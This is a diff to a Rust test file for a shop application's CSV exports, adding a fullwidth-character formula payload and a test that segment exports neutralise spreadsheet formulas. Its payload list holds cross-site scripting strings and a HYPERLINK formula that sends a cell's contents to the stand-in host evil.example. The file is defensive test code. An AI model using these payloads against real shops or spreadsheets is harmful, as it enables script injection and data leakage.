@@ -5,7 +5,7 @@
 use stammkunde::orders::{csv, read, Format, LineItem, Order, ReadOptions};
 
 /// Strings a customer or an operator could type into a shop.
-pub const PAYLOADS: [&str; 10] = [
+pub const PAYLOADS: [&str; 11] = [
     "<img src=x onerror=\"window.__xss=1\">",
     "\"><script>window.__xss=1</script>",
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")",
@@ -15,6 +15,7 @@ pub const PAYLOADS: [&str; 10] = [
     "@SUM(A1:A9)",
     "\t=1+1",
     "'=already protected",
+    "\u{ff1d}1+1",
     "Müller; \"Kaffee\"\nzweite Zeile",
 ];
 
@@ -49,7 +50,9 @@ fn cells(text: &str, sep: char) -> Vec<Vec<String>> {
 
 /// A cell a spreadsheet would run as a formula.
 fn is_formula(cell: &str) -> bool {
-    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+    cell.starts_with([
+        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
+    ])
 }
 
 fn hostile_orders() -> Vec<Order> {
@@ -129,4 +132,50 @@ fn csv_cells_with_payloads_are_read_as_plain_text() {
     );
     assert_eq!(import.orders[0].customer, PAYLOADS[0]);
     assert_eq!(import.orders[1].customer, PAYLOADS[1]);
+}
+
+mod segments {
+    use super::{cells, hostile_orders, is_formula, PAYLOADS};
+    use stammkunde::segments::export::{customers_csv, segments_csv, CsvOptions};
+    use stammkunde::segments::{Config, Lang, OrderTable, RuleDef, Segmentation};
+    use std::sync::Arc;
+
+    /// Customer keys, product names and categories, rule ids and names all
+    /// carry payloads; no exported cell starts like a formula and each
+    /// payload is in the export as text.
+    #[test]
+    fn segment_exports_neutralise_formulas_in_every_text() {
+        let orders = hostile_orders();
+        let config = Config {
+            as_of: Some(1_793_525_400 + 86_400),
+            categories: PAYLOADS.iter().map(|p| p.to_string()).collect(),
+            products: vec![format!("{}-sku", PAYLOADS[2])],
+            rules: PAYLOADS
+                .iter()
+                .enumerate()
+                .map(|(i, p)| RuleDef {
+                    id: format!("{p}{i}"),
+                    name: p.to_string(),
+                    rule: "number_of_orders >= 1".into(),
+                })
+                .collect(),
+            ..Config::default()
+        };
+        let seg = Segmentation::compute(Arc::new(OrderTable::from_orders(&orders)), &config).unwrap();
+        for lang in [Lang::De, Lang::En] {
+            let sep = if lang == Lang::De { ';' } else { ',' };
+            let opts = CsvOptions { lang, ..CsvOptions::default() };
+            for text in [customers_csv(&seg, &opts), segments_csv(&seg, &opts)] {
+                let rows = cells(&text, sep);
+                for row in &rows {
+                    for cell in row {
+                        assert!(!is_formula(cell), "{lang:?}: formula cell {cell:?} in {row:?}");
+                    }
+                }
+                assert!(text.contains("'=1+1"), "{text}");
+            }
+        }
+        let overview = segments_csv(&seg, &CsvOptions::default());
+        assert!(overview.contains("<img src=x onerror=\"\"window.__xss=1\"\">"), "{overview}");
+    }
 }
